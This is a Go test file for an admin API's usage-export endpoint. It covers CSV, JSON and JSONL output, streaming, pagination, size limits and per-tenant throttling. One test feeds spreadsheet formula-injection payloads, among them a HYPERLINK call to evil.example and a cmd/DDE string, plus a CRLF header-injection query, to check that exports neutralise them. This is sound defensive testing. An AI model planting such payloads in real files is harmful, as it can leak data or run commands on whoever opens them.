package adminapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"sluice/shared/core"
	"sluice/shared/lambdahttp"
	"sluice/shared/store"
	"sluice/shared/web"
)

// rows reads a CSV export as maps by column.
func rows(t *testing.T, body string) (out []map[string]string, columns []string) {
	t.Helper()
	all, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(all) == 0 {
		t.Fatalf("no CSV: %v: %.300s", err, body)
	}
	for _, line := range all[1:] {
		m := map[string]string{}
		for i, name := range all[0] {
			m[name] = line[i]
		}
		out = append(out, m)
	}
	return out, all[0]
}

// TestExportForms: each form holds what the log and the summary hold, as a file.
func TestExportForms(t *testing.T) {
	p := newPool(t, nil)
	p.week()
	for _, c := range []struct {
		what, list, target string
		n                  int
	}{
		{"logs", "logs", "/api/usage/logs?limit=1000", 5},
		{"summary", "summaries", "/api/usage/summary?group_by=model", 4},
	} {
		query := "what=" + c.what
		if c.what == "summary" {
			query += "&group_by=model"
		}
		want := items(p.want(200, "GET", c.target, ""), c.list)
		a := p.want(200, "GET", "/api/usage/export?format=json&"+query, "")
		var got []map[string]any
		if err := json.Unmarshal([]byte(a.body), &got); err != nil {
			t.Fatalf("%s: no JSON: %v: %s", c.what, err, a.body)
		}
		if fmt.Sprint(got) != fmt.Sprint(want) || len(got) != c.n {
			t.Errorf("%s: JSON has\n%v, want\n%v", c.what, got, want)
		}
		if ct := a.header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
			t.Errorf("%s: %s", c.what, ct)
		}
		if d := a.header.Get("Content-Disposition"); d != `attachment; filename="sluice-usage-`+c.what+`-20260310T123000Z.json"` {
			t.Errorf("%s: %s", c.what, d)
		}

		a = p.want(200, "GET", "/api/usage/export?format=jsonl&"+query, "")
		lines := strings.Split(strings.TrimSuffix(a.body, "\n"), "\n")
		for i := range lines {
			var m map[string]any
			if err := json.Unmarshal([]byte(lines[i]), &m); err != nil || i < len(want) && fmt.Sprint(m) != fmt.Sprint(want[i]) {
				t.Errorf("%s: line %d: %v: %s", c.what, i, err, lines[i])
			}
		}
		if len(lines) != c.n {
			t.Errorf("%s: %d lines", c.what, len(lines))
		}

		a = p.want(200, "GET", "/api/usage/export?"+query, "")
		table, columns := rows(t, a.body)
		if ct := a.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv; charset=utf-8") || len(table) != c.n || strings.Count(a.body, "\r\n") != c.n+1 {
			t.Errorf("%s: %d rows of %s", c.what, len(table), ct)
		}
		for i, m := range want {
			for f, v := range m {
				if !slices.ContainsFunc(columns, func(s string) bool { return s == f || strings.HasPrefix(s, f+".") }) {
					t.Errorf("%s: CSV has no column %s", c.what, f)
				}
				switch v := v.(type) {
				case float64:
					if n, err := strconv.ParseFloat(table[i][f], 64); err != nil || n != v {
						t.Errorf("%s: row %d: %s is %q, want %v", c.what, i, f, table[i][f], v)
					}
				case string, bool:
					if table[i][f] != fmt.Sprint(v) {
						t.Errorf("%s: row %d: %s is %q, want %v", c.what, i, f, table[i][f], v)
					}
				case nil:
					if table[i][f] != "" {
						t.Errorf("%s: row %d: %s is %q, want nothing", c.what, i, f, table[i][f])
					}
				}
			}
		}
	}
	table, _ := rows(t, p.want(200, "GET", "/api/usage/export?what=summary&model_id=big", "").body)
	if table[0]["total_ms.avg"] != "100" || table[0]["first_byte_ms.avg"] != "40" || table[0]["first_byte_ms.p99"] == "" {
		t.Errorf("times: %v", table[0])
	}
}

// TestExportOfNothing: a file without rows is a file all the same.
func TestExportOfNothing(t *testing.T) {
	p := newPool(t, nil)
	if a := p.want(200, "GET", "/api/usage/export?format=json", ""); strings.TrimSpace(a.body) != "[]" {
		t.Errorf("json: %q", a.body)
	}
	if a := p.want(200, "GET", "/api/usage/export?format=jsonl", ""); a.body != "" {
		t.Errorf("jsonl: %q", a.body)
	}
	if table, columns := rows(t, p.want(200, "GET", "/api/usage/export", "").body); len(table) != 0 || columns[0] != "created_at" {
		t.Errorf("csv: %v %v", columns, table)
	}
}

// TestExportIsNoFormula: whoever may send requests names models and sessions; who opens the file in a spreadsheet must not
// run what is in the names.
func TestExportIsNoFormula(t *testing.T) {
	for _, c := range []struct{ why, in, want string }{
		{"a call", `=HYPERLINK("https://evil.example?"&A1,"x")`, `'=HYPERLINK("https://evil.example?"&A1,"x")`},
		{"the older sign", `+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"a minus", `-2+3`, `'-2+3`},
		{"an at", `@SUM(1)`, `'@SUM(1)`},
		{"a tab before it", "\t=1", "'\t'=1"},
		{"a carriage return before it", "\r=1", "'\r'=1"},
		{"a line before it", "\n=1", "'\n'=1"},
		{"blanks before it", "  =1+1", "'  =1+1"},
		{"the wide sign", "＝1+1", "'＝1+1"},
		{"cells of its own", "a\",=1,\"b", "a\",=1,\"b"},
		{"cells behind a semicolon, which parts them in many countries", "a;=1+1;b; @x", "a;'=1+1;b;' @x"},
		{"lines of its own", "a\r\n=1", "a\n'=1"}, // encoding/csv reads both line ends as one
		{"broken text", "a\xff\xfeb", "a\uFFFDb"},
		{"a name", "claude-sonnet-4.5", "claude-sonnet-4.5"},
		{"another", "主账号, \"x\"", "主账号, \"x\""},
		{"a name with a sign in it", "a=b+c@d", "a=b+c@d"},
	} {
		p := newPool(t, nil)
		p.settle(core.Settlement{RequestID: "req_1", EndedAt: p.clock(), Model: c.in, Session: c.in, Agent: c.in, Bytes: -1})
		for _, x := range []struct{ query, field string }{{"what=logs", "model_id"}, {"what=logs", "session_id"}, {"what=logs", "agent_id"},
			{"what=summary&group_by=model", "model_id"}, {"what=summary&group_by=session", "session_id"}, {"what=summary&group_by=agent", "agent_id"}} {
			table, _ := rows(t, p.want(200, "GET", "/api/usage/export?"+x.query, "").body)
			if len(table) != 1 || table[0][x.field] != c.want {
				t.Errorf("%s: %s: %q, want %q", c.why, x.query, table[0][x.field], c.want)
			}
			if b := table[0]["bytes"]; b != "-1" {
				t.Errorf("a number below 0 is %q", b)
			}
		}
	}
}

// manyRecords gives n records, made as they are read, and fails where it is told to.
type manyRecords struct {
	store.Usage
	n, failAt int // failAt 0: never
	name      string
	largest   int // page that was asked for
	before    func()
	accounts  []string
}

var errStoreAway = errors.New("the store is away: secret-address")

func (u *manyRecords) Records(_ context.Context, f store.UsageFilter, cursor string, limit int) (recs []core.Settlement, next string, err error) {
	u.largest = max(u.largest, limit)
	u.accounts = append(u.accounts, f.Account)
	if u.before != nil {
		u.before()
	}
	at, _ := strconv.Atoi(cursor)
	if u.failAt > 0 && at+limit > u.failAt {
		return nil, "", errStoreAway
	}
	for ; at < u.n && len(recs) < limit; at++ {
		recs = append(recs, core.Settlement{RequestID: fmt.Sprintf("req_%06d", at), Account: "default", Model: u.name, Status: 200, EndedAt: time.Unix(int64(1e9-at), 0)})
	}
	if at < u.n {
		next = strconv.Itoa(at)
	}
	return recs, next, nil
}

// countedWriter counts an answer and throws it away.
type countedWriter struct {
	header                   http.Header
	status, sent, waiting    int
	largest, flushed, broken int // broken: writes fail from then on
}

func (w *countedWriter) Header() http.Header    { return w.header }
func (w *countedWriter) WriteHeader(status int) { w.status = status }
func (w *countedWriter) Flush()                 { w.flushed++; w.waiting = 0 }

func (w *countedWriter) Write(p []byte) (int, error) {
	if w.broken > 0 && w.sent >= w.broken {
		return 0, errors.New("broken pipe")
	}
	w.sent += len(p)
	w.waiting += len(p)
	w.largest = max(w.largest, w.waiting)
	return len(p), nil
}

// into sends an export to a writer and reports whether it was broken off.
func (p *pool) into(w http.ResponseWriter, ctx context.Context, query string) (broken bool) {
	defer func() {
		if v := recover(); v != nil {
			if broken = v == http.ErrAbortHandler; !broken {
				panic(v)
			}
		}
	}()
	r := httptest.NewRequestWithContext(ctx, "GET", "/api/usage/export?"+query, nil)
	r.Header.Set("x-admin-key", poolAdmin)
	p.h.ServeHTTP(w, r)
	return false
}

// TestExportIsStreamed: of 20,000 requests no more than a page is in memory, in any form: each page is sent before the next
// is read.
func TestExportIsStreamed(t *testing.T) {
	for _, format := range []string{"csv", "json", "jsonl"} {
		p := newPool(t, nil)
		w := &countedWriter{header: http.Header{}}
		many := &manyRecords{n: 20_000, name: "claude-sonnet-4-5"}
		many.before = func() {
			if w.waiting > 0 {
				t.Errorf("%s: %d bytes wait while the next page is read", format, w.waiting)
			}
		}
		p.serve(func(o *optionsOf) { many.Usage, o.Usage = o.Usage, many })
		if p.into(w, t.Context(), "format="+format) || w.status != 200 {
			t.Fatalf("%s: status %d", format, w.status)
		}
		if w.flushed != 20 || many.largest != 1000 || w.sent < 20_000*100 || w.largest > w.sent/15 {
			t.Errorf("%s: %d bytes in %d parts, the largest of %d, pages of %d", format, w.sent, w.flushed, w.largest, many.largest)
		}
	}
}

// TestExportBreaksOff: what the store did not give to its end must not look like a whole file, and what it did not begin is
// an error as any other.
func TestExportBreaksOff(t *testing.T) {
	p := newPool(t, nil)
	many := &manyRecords{n: 20_000, failAt: 5000}
	p.serve(func(o *optionsOf) { many.Usage, o.Usage = o.Usage, many })
	server := httptest.NewServer(p.h)
	for _, format := range []string{"csv", "json", "jsonl"} {
		r, err := http.NewRequestWithContext(t.Context(), "GET", server.URL+"/api/usage/export?format="+format, nil)
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("x-admin-key", poolAdmin)
		resp, err := server.Client().Do(r)
		if err != nil {
			t.Fatal(err)
		}
		var body bytes.Buffer
		_, err = body.ReadFrom(resp.Body)
		_ = resp.Body.Close()
		if err == nil || resp.StatusCode != 200 || body.Len() == 0 {
			t.Errorf("%s: status %d, %d bytes, and the end looks whole: %v", format, resp.StatusCode, body.Len(), err)
		}
		if strings.Contains(body.String(), "secret") || strings.HasSuffix(strings.TrimSpace(body.String()), "]") {
			t.Errorf("%s: ends with %s", format, body.String()[body.Len()-50:])
		}
	}
	server.Close() // which waits for its handlers
	many.failAt = 1
	if a := p.want(500, "GET", "/api/usage/export", ""); strings.Contains(a.body, "secret") || a.json()["error"] == "" || a.header.Get("Content-Disposition") != "" {
		t.Errorf("before the first row: %s", a.body)
	}
	many.failAt = 0
	if !p.into(&countedWriter{header: http.Header{}, broken: 200_000}, t.Context(), "") {
		t.Error("a client that left is read to for nothing")
	}
}

// TestExportInOnePiece: where the host cannot stream, an export that does not fit is refused before anything is sent, and can
// be had in parts.
func TestExportInOnePiece(t *testing.T) {
	p := newPool(t, nil)
	many := &manyRecords{n: 3_000, name: `quoted "name" ` + strings.Repeat("n", 300)}
	p.serve(func(o *optionsOf) { many.Usage, o.Usage = o.Usage, many })
	const limit = 1 << 20
	ctx := web.WithAnswerLimit(t.Context(), limit)
	get := func(query string) *httptest.ResponseRecorder {
		t.Helper()
		w := httptest.NewRecorder()
		if p.into(w, ctx, query) {
			t.Fatalf("%s: broken off", query)
		}
		return w
	}
	for _, format := range []string{"csv", "json", "jsonl"} {
		w := get("format=" + format)
		if w.Code != 413 || !strings.Contains(w.Body.String(), "x-next-cursor") || w.Header().Get("X-Next-Cursor") != "" || w.Header().Get("Content-Disposition") != "" {
			t.Errorf("%s: status %d: %.300s", format, w.Code, w.Body)
		}
		var ids []string
		for cursor, parts := "", 0; ; parts++ {
			w := get("limit=500&format=" + format + "&cursor=" + cursor)
			if w.Code != 200 || parts > 5 {
				t.Fatalf("%s: part %d: status %d: %.200s", format, parts, w.Code, w.Body)
			}
			if text, _ := json.Marshal(w.Body.String()); len(text) > limit {
				t.Errorf("%s: a part is %d bytes as a JSON string", format, len(text))
			}
			ids = append(ids, strings.Fields(strings.ReplaceAll(w.Body.String(), `"id":"`, "\n"))...)
			if cursor = w.Header().Get("X-Next-Cursor"); cursor == "" {
				break
			}
		}
		if format == "jsonl" {
			n := 0
			for _, s := range ids {
				if strings.HasPrefix(s, "req_") {
					n++
				}
			}
			if n != 3_000 {
				t.Errorf("the parts hold %d requests", n)
			}
		}
	}
	many.n, many.name = 1000, strings.Repeat("\x01", 200)
	if w := get(""); w.Code != 413 {
		t.Errorf("300 KB that are 1.3 MB in JSON: status %d, %d bytes", w.Code, w.Body.Len())
	}
	many.name = "name"
	if w := get(""); w.Code != 200 || strings.Count(w.Body.String(), "\r\n") != 1001 || w.Header().Get("X-Next-Cursor") != "" {
		t.Errorf("what fits: status %d: %.200s", w.Code, w.Body)
	}
}

// TestExportByLambda: the host tells the handler of its limit, and what the handler takes for small enough passes it.
func TestExportByLambda(t *testing.T) {
	p := newPool(t, nil)
	many := &manyRecords{n: 3_000, name: "\x01\u2028\"\\" + strings.Repeat("n", 400)}
	p.serve(func(o *optionsOf) { many.Usage, o.Usage = o.Usage, many })
	fn := lambdahttp.New(p.h, lambdahttp.Options{Buffered: true, MaxBuffered: 1 << 20})
	for _, c := range []struct {
		why, query string
		status     int
		next       bool
	}{
		{"too large as CSV", "", 413, false}, {"and as JSON", "format=json", 413, false}, {"a part", "format=json&limit=500", 200, true},
		{"a part that is too large", "limit=3000", 413, false}, {"a sum", "what=summary", 200, false},
	} {
		event := `{"version":"2.0","rawPath":"/api/usage/export","rawQueryString":"` + c.query + `","headers":{"host":"x.execute-api.eu-central-1.amazonaws.com","x-admin-key":"` + poolAdmin +
			`"},"requestContext":{"domainName":"x.execute-api.eu-central-1.amazonaws.com","stage":"$default","requestId":"r","http":{"method":"GET","path":"/api/usage/export","sourceIp":"192.0.2.1"}}}`
		r, err := fn(t.Context(), json.RawMessage(event))
		if err != nil {
			t.Fatal(err)
		}
		var a struct {
			StatusCode int
			Headers    map[string]string
			Body       string
		}
		if err := json.NewDecoder(r).Decode(&a); err != nil {
			t.Fatal(err)
		}
		if a.StatusCode != c.status || (a.Headers["X-Next-Cursor"] != "") != c.next || c.status == 413 && !strings.Contains(a.Body, "x-next-cursor") {
			t.Errorf("%s: status %d, next %q: %.300s", c.why, a.StatusCode, a.Headers["X-Next-Cursor"], a.Body)
		}
	}
}

// TestExportByPartsEverywhere: limit and cursor mean the same on a server.
func TestExportByPartsEverywhere(t *testing.T) {
	p := newPool(t, nil)
	p.week()
	var ids []string
	cursor := ""
	for range 3 {
		a := p.want(200, "GET", "/api/usage/export?limit=2&cursor="+cursor, "")
		table, _ := rows(t, a.body)
		for _, m := range table {
			ids = append(ids, m["id"])
		}
		cursor = a.header.Get("X-Next-Cursor")
	}
	if fmt.Sprint(ids) != "[req_0 req_1 req_2 req_3 req_4]" || cursor != "" {
		t.Errorf("%v, and then %q", ids, cursor)
	}
	for _, c := range []struct{ why, query, field string }{
		{"another form", "format=xlsx", "format"}, {"another spelling", "format=CSV", "format"}, {"something else", "what=keys", "what"},
		{"a header in it", "format=csv%0d%0aX-A:b", "format"}, {"too many", "limit=5001", "limit"}, {"none", "limit=0", "limit"}, {"far too many", "limit=9e99", "limit"},
		{"a cursor of nobody's", "cursor=made-up", "cursor"}, {"sums have no pages", "what=summary&limit=5", "limit"}, {"nor cursors", "what=summary&cursor=x", "cursor"},
	} {
		p.refused(c.field, "GET", "/api/usage/export?"+c.query, "", c.why)
	}
}

// TestExportsOfAllTenants: tenants together cannot keep the operator from an export.
func TestExportsOfAllTenants(t *testing.T) {
	p := newPool(t, nil)
	many := &manyRecords{n: 1}
	p.serve(func(o *optionsOf) { many.Usage, o.Usage = o.Usage, many })
	var keys []string
	for i := range 4 {
		id := p.want(201, "POST", "/admin/api/accounts", fmt.Sprintf(`{"name":"tenant %d"}`, i)).json()["id"].(string)
		keys = append(keys, p.key(id, `{"name":"own","nodes":true}`))
	}
	depth, operator := 0, 0
	many.before = func() {
		switch depth++; {
		case depth < 16:
			p.call("GET", "/api/usage/export", "", "x-api-key", keys[depth/4])
			fallthrough
		default:
			if operator == 0 { // the innermost returns first
				operator = -1
				operator = p.call("GET", "/api/usage/export", "", "x-admin-key", poolAdmin).status
			}
		}
	}
	p.call("GET", "/api/usage/export", "", "x-api-key", keys[0])
	if operator != 200 {
		t.Errorf("while tenants export as much as they may the operator's is answered %d", operator)
	}
}

// TestExportsAtOnce: one account cannot hold the memory and the connections of all.
func TestExportsAtOnce(t *testing.T) {
	p := newPool(t, nil)
	many := &manyRecords{n: 1}
	p.serve(func(o *optionsOf) { many.Usage, o.Usage = o.Usage, many })
	key := p.key("acc-beta", `{"name":"own","nodes":true}`)
	depth, last := 0, 0
	many.before = func() { // each begins the next before it is over
		if depth++; depth <= 4 {
			a := p.call("GET", "/api/usage/export", "", "x-api-key", key)
			if last == 0 { // the innermost returns first
				last = a.status
				if a.header.Get("Retry-After") == "" {
					t.Error("no Retry-After")
				}
				if other := p.call("GET", "/api/usage/export", "", "x-admin-key", poolAdmin); other.status != 200 {
					t.Errorf("another account's: %d", other.status)
				}
			}
		}
	}
	if a := p.call("GET", "/api/usage/export", "", "x-api-key", key); a.status != 200 || last != 429 {
		t.Errorf("the first %d, the fifth %d", a.status, last)
	}
	many.before = nil
	if a := p.call("GET", "/api/usage/export", "", "x-api-key", key); a.status != 200 {
		t.Errorf("afterwards: %d", a.status)
	}
	if many.accounts[0] != "acc-beta" {
		t.Errorf("a tenant's export is of %q", many.accounts[0])
	}
}
